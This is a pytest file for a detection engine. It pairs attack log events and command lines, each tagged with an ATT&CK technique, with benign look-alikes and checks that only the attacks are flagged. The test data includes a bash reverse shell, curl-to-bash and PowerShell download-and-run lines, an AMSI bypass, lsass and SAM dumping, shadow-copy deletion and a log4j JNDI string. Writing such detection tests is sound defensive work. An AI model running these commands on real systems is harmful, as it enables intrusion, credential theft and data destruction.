"""What the shipped facts say about events of endpoints, and about the everyday events most like them."""

from __future__ import annotations

import pytest

from knowledge.alerts.events import FactHit, shipped_facts
from knowledge.alerts.model import Field, Record, Role

ROLES = {
    "CommandLine": Role.COMMAND,
    "ProcessCommandLine": Role.COMMAND,
    "process.command_line": Role.COMMAND,
    "ScriptBlockText": Role.SCRIPT,
    "Image": Role.PROCESS,
    "process.executable": Role.PROCESS,
    "ParentImage": Role.PARENT,
    "process.parent.executable": Role.PARENT,
    "TargetObject": Role.REGISTRY,
    "RegistryKey": Role.REGISTRY,
    "TargetFilename": Role.FILE,
    "file.path": Role.FILE,
    "QueryName": Role.URL,
    "message": Role.MESSAGE,
    "AlertDisplayName": Role.TITLE,
    "SubjectUserName": Role.USER,
}
SECURITY = {"Event.System.Provider.Name": "Microsoft-Windows-Security-Auditing", "Event.System.Channel": "Security"}
SYSTEM = {"Event.System.Provider.Name": "Service Control Manager", "Event.System.Channel": "System"}
SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational"}
DEFENDER = {"Channel": "Microsoft-Windows-Windows Defender/Operational"}


def event(fields: dict[str, str]) -> Record:
    return Record(
        format="json",
        fields=tuple(
            Field(path, value, number, number + 1, ROLES.get(path.rpartition("Event.EventData.")[2], Role.DETAIL))
            for number, (path, value) in enumerate(fields.items())
        ),
        start=0,
        end=len(fields),
    )


def command(line: str) -> dict[str, str]:
    return {"CommandLine": line}


def script(text: str) -> dict[str, str]:
    return {"EventID": "4104", "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": text}


def registry(key: str, value: str = "1") -> dict[str, str]:
    return {"EventID": "13", **SYSMON, "TargetObject": key, "Details": value}


def hits(fields: dict[str, str]) -> tuple[FactHit, ...]:
    return shipped_facts().hits(event(fields))


def strongest(fields: dict[str, str]) -> dict[str, float]:
    found: dict[str, float] = {}
    for hit in hits(fields):
        for technique in hit.fact.shows:
            found[technique] = max(found.get(technique, 0.0), hit.fact.strength)
    return found


ATTACKS_AND_TWINS = {
    "kerberoasting": (
        "T1558.003",
        {"EventID": "4769", **SECURITY, "TicketEncryptionType": "0x17", "ServiceName": "svc_sql"},
        {"EventID": "4769", **SECURITY, "TicketEncryptionType": "0x12", "ServiceName": "svc_sql"},
    ),
    "kerberoasting in a paste without its log": (
        "T1558.003",
        {
            "event.code": "4769",
            "winlog.event_data.TicketEncryptionType": "0x17",
            "winlog.event_data.ServiceName": "web",
        },
        {
            "event.code": "4769",
            "winlog.event_data.TicketEncryptionType": "0x17",
            "winlog.event_data.ServiceName": "PC1$",
        },
    ),
    "roasting without pre-authentication": (
        "T1558.004",
        {"EventCode": "4768", "PreAuthType": "0", "TicketEncryptionType": "0x17", "TargetUserName": "old"},
        {"EventCode": "4768", "PreAuthType": "2", "TicketEncryptionType": "0x12", "TargetUserName": "old"},
    ),
    "replication by a user": (
        "T1003.006",
        {
            "EventID": "4662",
            **SECURITY,
            "SubjectUserName": "jdoe",
            "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
        },
        {
            "EventID": "4662",
            **SECURITY,
            "SubjectUserName": "DC02$",
            "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
        },
    ),
    "pass the hash": (
        "T1550.002",
        {"EventID": "4624", **SECURITY, "LogonType": "9", "LogonProcessName": "seclogo"},
        {"EventID": "4624", **SECURITY, "LogonType": "2", "LogonProcessName": "User32"},
    ),
    "security log cleared": (
        "T1070.001",
        {"EventID": "1102", "Channel": "Security"},
        {"EventID": "1102", "Channel": "Microsoft-Windows-Backup"},
    ),
    "new service on an administrative share": (
        "T1569.002",
        {"EventID": "7045", **SYSTEM, "ServiceName": "ab12", "ImagePath": r"\\127.0.0.1\ADMIN$\ab12.exe"},
        {"EventID": "7045", **SYSTEM, "ServiceName": "Zoom", "ImagePath": r"C:\Program Files\Zoom\svc.exe"},
    ),
    "getsystem through a pipe": (
        "T1134.001",
        {"EventID": "7045", **SYSTEM, "ServiceName": "x", "ImagePath": r"cmd.exe /c echo qwe > \\.\pipe\qwe"},
        {"EventID": "7036", **SYSTEM, "param1": "Print Spooler", "param2": "running"},
    ),
    "member of domain admins": (
        "T1098.007",
        {"EventID": "4728", **SECURITY, "TargetUserName": "Domain Admins", "MemberName": "CN=x"},
        {"EventID": "4728", **SECURITY, "TargetUserName": "Printer users", "MemberName": "CN=x"},
    ),
    "audit policy off": (
        "T1562.002",
        {"EventID": "4719", **SECURITY, "AuditPolicyChanges": "%%8448, %%8450"},
        {"EventID": "4688", **SECURITY, "NewProcessName": r"C:\Windows\System32\auditpol.exe"},
    ),
    "task that runs powershell": (
        "T1053.005",
        {"EventID": "4698", **SECURITY, "TaskName": r"\Upd", "TaskContent": "<Exec><Command>powershell.exe"},
        {"EventID": "4698", **SECURITY, "TaskName": r"\GoogleUpdate", "TaskContent": "<Exec><Command>GoogleUpdate.exe"},
    ),
    "service name for a user": (
        "T1558.003",
        {"EventID": "5136", "AttributeLDAPDisplayName": "servicePrincipalName", "ObjectClass": "user"},
        {"EventID": "5136", "AttributeLDAPDisplayName": "description", "ObjectClass": "user"},
    ),
    "shadow credentials": (
        "T1556",
        {"EventID": "5136", "AttributeLDAPDisplayName": "msDS-KeyCredentialLink", "ObjectClass": "computer"},
        {"EventID": "5136", "AttributeLDAPDisplayName": "lastLogonTimestamp", "ObjectClass": "computer"},
    ),
    "program on an administrative share": (
        "T1021.002",
        {"EventID": "5145", "ShareName": r"\\*\ADMIN$", "RelativeTargetName": r"Temp\x.exe"},
        {"EventID": "5145", "ShareName": r"\\*\Public", "RelativeTargetName": r"menu.pdf"},
    ),
    "SID history": (
        "T1134.005",
        {"EventID": "4738", **SECURITY, "SidHistory": "S-1-5-21-1-2-3-512"},
        {"EventID": "4738", **SECURITY, "SidHistory": "-"},
    ),
    "lsass opened": (
        "T1003.001",
        {
            "EventID": "10",
            **SYSMON,
            "SourceImage": r"C:\Users\a\x.exe",
            "TargetImage": r"C:\Windows\system32\lsass.exe",
            "GrantedAccess": "0x1010",
        },
        {
            "EventID": "10",
            **SYSMON,
            "SourceImage": r"C:\Windows\system32\svchost.exe",
            "TargetImage": r"C:\Windows\system32\lsass.exe",
            "GrantedAccess": "0x1000",
        },
    ),
    "remote thread": (
        "T1055",
        {"EventID": "8", **SYSMON, "SourceImage": r"C:\Temp\a.exe", "TargetImage": r"C:\Windows\explorer.exe"},
        {"EventID": "8", **SYSMON, "SourceImage": r"C:\Windows\System32\csrss.exe", "TargetImage": r"C:\x.exe"},
    ),
    "run key": (
        "T1547.001",
        registry(r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Upd", r"C:\Users\Public\u.vbs"),
        registry(r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\1"),
    ),
    "run key as Defender writes it": (
        "T1547.001",
        {
            "RegistryKey": r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
            "RegistryValueName": "x",
            "RegistryValueData": "powershell -w hidden",
        },
        {"RegistryKey": r"HKEY_CURRENT_USER\Software\Microsoft\Notepad", "RegistryValueName": "iWindowPosX"},
    ),
    "debugger of sticky keys": (
        "T1546.008",
        registry(
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger",
            "cmd.exe",
        ),
        registry(r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList\S-1-5-18\State"),
    ),
    "uac bypass": (
        "T1548.002",
        registry(r"HKCU\Software\Classes\ms-settings\shell\open\command\DelegateExecute", ""),
        registry(r"HKCU\Software\Classes\Local Settings\MuiCache\1"),
    ),
    "wdigest": (
        "T1112",
        registry(r"HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential", "DWORD (0x1)"),
        registry(r"HKLM\SYSTEM\CurrentControlSet\Control\TimeZoneInformation\Bias"),
    ),
    "startup folder": (
        "T1547.001",
        {
            "EventID": "11",
            **SYSMON,
            "TargetFilename": r"C:\Users\a\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs",
        },
        {"EventID": "11", **SYSMON, "TargetFilename": r"C:\Users\a\Documents\notes.docx"},
    ),
    "web server writes a script": (
        "T1505.003",
        {
            "EventID": "11",
            **SYSMON,
            "Image": r"C:\Windows\System32\inetsrv\w3wp.exe",
            "TargetFilename": r"C:\inetpub\wwwroot\aspnet_client\x.aspx",
        },
        {
            "EventID": "11",
            **SYSMON,
            "Image": r"C:\Windows\System32\inetsrv\w3wp.exe",
            "TargetFilename": r"C:\inetpub\logs\LogFiles\u_ex1.log",
        },
    ),
    "web server starts a shell": (
        "T1505.003",
        {"ParentImage": r"C:\Windows\System32\inetsrv\w3wp.exe", "Image": r"C:\Windows\System32\cmd.exe"},
        {"ParentImage": r"C:\Windows\explorer.exe", "Image": r"C:\Windows\System32\cmd.exe"},
    ),
    "word starts powershell": (
        "T1204.002",
        {
            "process.parent.executable": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "process.executable": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        },
        {
            "process.parent.executable": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "process.executable": r"C:\Windows\splwow64.exe",
        },
    ),
    "wmi subscription": (
        "T1546.003",
        {"EventID": "20", **SYSMON, "Type": "Command Line", "Operation": "Created", "Destination": "cmd /c x"},
        {"EventID": "22", **SYSMON, "QueryName": "www.example.org"},
    ),
    "mining pool": (
        "T1496.001",
        {"EventID": "22", **SYSMON, "QueryName": "xmr-eu1.nanopool.org"},
        {"EventID": "22", **SYSMON, "QueryName": "outlook.office365.com"},
    ),
    "defender off": (
        "T1562.001",
        {"EventID": "5001", **DEFENDER},
        {"EventID": "2000", **DEFENDER},
    ),
    "defender exclusion": (
        "T1562.001",
        {
            "EventID": "5007",
            **DEFENDER,
            "New Value": r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\ = 0x0",
        },
        {"EventID": "5007", **DEFENDER, "New Value": r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature = 1"},
    ),
    "rule against stealing from lsass": (
        "T1003.001",
        {"EventID": "1121", **DEFENDER, "ID": "9E6C4E1F-7D60-472F-BA1A-A39EF669E4B2"},
        {"EventID": "1121", **DEFENDER, "ID": "00000000-7D60-472F-BA1A-A39EF669E4B2"},
    ),
    "comsvcs": (
        "T1003.001",
        command(r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 672 C:\t.dmp full"),
        command(r"rundll32.exe shell32.dll,Control_RunDLL timedate.cpl"),
    ),
    "sam saved": (
        "T1003.002",
        command(r"reg save HKLM\SAM C:\t\sam.hiv"),
        command(r"reg save HKCU\Software\Vim C:\t\vim.hiv"),
    ),
    "shadow copies deleted": (
        "T1490",
        command('"C:\\Windows\\System32\\cmd.exe" /c vssadmin.exe  delete   shadows /all /quiet'),
        command("vssadmin list writers"),
    ),
    "account made, options first": ("T1136.001", command("net user /add svc2"), command("netsh winsock show catalog")),
    "account made": (
        "T1136.001",
        command(r'"C:\Windows\System32\net.exe" user support P@ss1 /add'),
        command("net user /help"),
    ),
    "domain admins listed": (
        "T1069.002",
        command('net group "Domain Admins" /domain'),
        command("net helpmsg 2182"),
    ),
    "trusts listed": ("T1482", command("nltest /domain_trusts /all_trusts"), command("nltest /sc_verify:corp")),
    "downloaded with certutil": (
        "T1105",
        command("certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe"),
        command("certutil -hashfile setup.msi SHA256"),
    ),
    "scriptlet": (
        "T1218.010",
        command("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll"),
        command(r"regsvr32 /s C:\Windows\System32\msxml6.dll"),
    ),
    "encoded powershell": (
        "T1059.001",
        command("powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwA="),
        command(r"powershell.exe -File C:\Scripts\inventory.ps1"),
    ),
    "carets": (
        "T1070.001",
        command("cmd /c w^ev^tutil c^l Security"),
        command("cmd /c wevtutil gp Microsoft-Windows-DNS"),
    ),
    "port forwarded": (
        "T1090.001",
        command("netsh interface portproxy add v4tov4 listenport=8080 connectport=3389 connectaddress=10.0.0.5"),
        command("netsh wlan connect name=office"),
    ),
    "rclone": ("T1567.002", command(r"rclone.exe copy D:\Finance remote:x --transfers 16"), command("rclone version")),
    "task made": (
        "T1053.005",
        command('schtasks.exe /Create /SC DAILY /TN "Upd" /TR C:\\Users\\Public\\u.exe'),
        command("schtasks /end /tn Backup"),
    ),
    "psexec": ("T1569.002", command(r"PsExec64.exe \\FS02 -s cmd.exe"), command(r"procexp64.exe /t")),
    "script without amsi": (
        "T1562.001",
        script("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed')"),
        script("Import-Module Pester\nDescribe 'sum' { It 'adds' { 1 + 1 | Should -Be 2 } }"),
    ),
    "script fetched and run": (
        "T1059.001",
        script("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"),
        script("Write-Host 'Report finished'"),
    ),
    "pieces on different lines": (
        "T1003.001",
        script("procdump -ma lsass.exe c:\\t.dmp"),
        script("# procdump\nWrite-Host done\n# see the page on lsass"),
    ),
    "shell to another machine": (
        "T1059.004",
        command("bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
        command("bash --login"),
    ),
    "fetched and run": (
        "T1105",
        command("curl -fsSL http://203.0.113.9/i.sh|bash"),
        command("git fetch --all"),
    ),
    "shadow read": ("T1003.008", command("sudo cat /etc/shadow"), command("sudo cat /etc/nginx/nginx.conf")),
    "cron": (
        "T1053.003",
        command("(crontab -l; echo '* * * * * curl http://x/a|sh') | crontab -"),
        command("man 5 crontab"),
    ),
    "key for ssh": (
        "T1098.004",
        command("echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"),
        command("ssh-keygen -t ed25519"),
    ),
    "history": ("T1070.003", command("history -c && rm -f ~/.bash_history"), command("history 20")),
    "setuid looked for": ("T1548.001", command("find / -perm -4000 -type f 2>/dev/null"), command("find . -newer x")),
    "preloaded": (
        "T1574.006",
        {"file.path": "/etc/ld.so.preload", "process.executable": "/usr/bin/bash"},
        {"file.path": "/etc/ld.so.cache", "process.executable": "/usr/sbin/ldconfig"},
    ),
    "guessed over ssh": (
        "T1110.001",
        {"message": "Failed password for invalid user admin from 203.0.113.9 port 4711 ssh2"},
        {"message": "Received disconnect from 203.0.113.9 port 4711:11: disconnected by user"},
    ),
    "account in the audit log": (
        "T1136.001",
        {"type": "ADD_USER", "op": "add-user", "acct": "svc", "res": "success"},
        {"type": "CRED_REFR", "op": "PAM:setcred", "acct": "svc", "res": "success"},
    ),
    "out of the container": (
        "T1611",
        command("nsenter --target 1 --mount --uts --ipc --net --pid -- bash"),
        command("docker version"),
    ),
    "log4j": (
        "T1190",
        {"message": 'GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 200 5316'},
        {"message": 'GET /?x=jndi HTTP/1.1" 200 5316'},
    ),
    "keychain": (
        "T1555.001",
        command("security find-generic-password -wa Chrome"),
        command("security verify-cert -c a.pem"),
    ),
    "gatekeeper": ("T1553.001", command("xattr -d com.apple.quarantine /tmp/a.app"), command("xattr -l a.pdf")),
    "launch agent": (
        "T1543.001",
        {"file.path": "/Users/a/Library/LaunchAgents/com.x.plist", "process.executable": "/bin/bash"},
        {"file.path": "/Users/a/Library/Preferences/com.x.plist", "process.executable": "/usr/sbin/cfprefsd"},
    ),
    "asked for a password": (
        "T1056.002",
        command('osascript -e \'display dialog "Password" default answer "" with hidden answer\''),
        command("open -a Safari"),
    ),
    "antivirus found a tool": (
        "T1003.001",
        {"EventID": "1116", **DEFENDER, "Threat Name": "HackTool:Win32/Mimikatz.D"},
        {"EventID": "1116", **DEFENDER, "Threat Name": "PUA:Win32/Presenoker"},
    ),
    "title of an alert": (
        "T1505.003",
        {"AlertDisplayName": "Possible web shell on an IIS server"},
        {"AlertDisplayName": "Device was onboarded"},
    ),
    "hidden mark": ("T1036.002", command("start invoice\u202efdp.exe"), command("start invoice.pdf")),
    "second ending": (
        "T1036.007",
        {"TargetFilename": r"C:\Users\a\Downloads\invoice.pdf.exe"},
        {"TargetFilename": r"C:\Users\a\Downloads\invoice.pdf"},
    ),
    "another place": (
        "T1036.005",
        {"Image": r"C:\Users\a\AppData\svchost.exe", "EventID": "1"},
        {"Image": r"C:\Windows\System32\svchost.exe", "EventID": "1"},
    ),
}


@pytest.mark.parametrize(
    ("technique", "attack"), [(row[0], row[1]) for row in ATTACKS_AND_TWINS.values()], ids=ATTACKS_AND_TWINS
)
def test_an_attack_is_known_by_its_fields(technique: str, attack: dict[str, str]) -> None:
    assert strongest(attack).get(technique, 0.0) >= 0.4
    quoted = next(hit.fields for hit in hits(attack) if technique in hit.fact.shows)
    assert quoted
    assert {field.path for field in quoted} <= set(attack)


@pytest.mark.parametrize(
    ("technique", "twin"), [(row[0], row[2]) for row in ATTACKS_AND_TWINS.values()], ids=ATTACKS_AND_TWINS
)
def test_its_everyday_twin_is_not(technique: str, twin: dict[str, str]) -> None:
    found = strongest(twin)
    assert found.get(technique, 0.0) <= 0.5
    assert all(strength <= 0.6 for strength in found.values())


@pytest.mark.parametrize(
    "line",
    [
        r"C:\Windows\System32\svchost.exe -k netsvcs -p",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US',
        r"C:\Windows\system32\backgroundTaskHost.exe -ServerName:App.AppX.mca",
        "git status",
        "python -m pytest -q",
        "npm install",
        "/usr/sbin/sshd -D -R",
        "/usr/lib/systemd/systemd-logind",
        "apt-get update",
        "make -j4",
        "ls",
        "vim notes.txt",
        r"C:\Windows\System32\notepad.exe C:\Users\a\notes.txt",
        r'"C:\Program Files\7-Zip\7z.exe" x archive.7z',
        "docker version",
        "kubectl version --client",
    ],
)
def test_an_everyday_command_shows_nothing(line: str) -> None:
    assert hits(command(line)) == ()
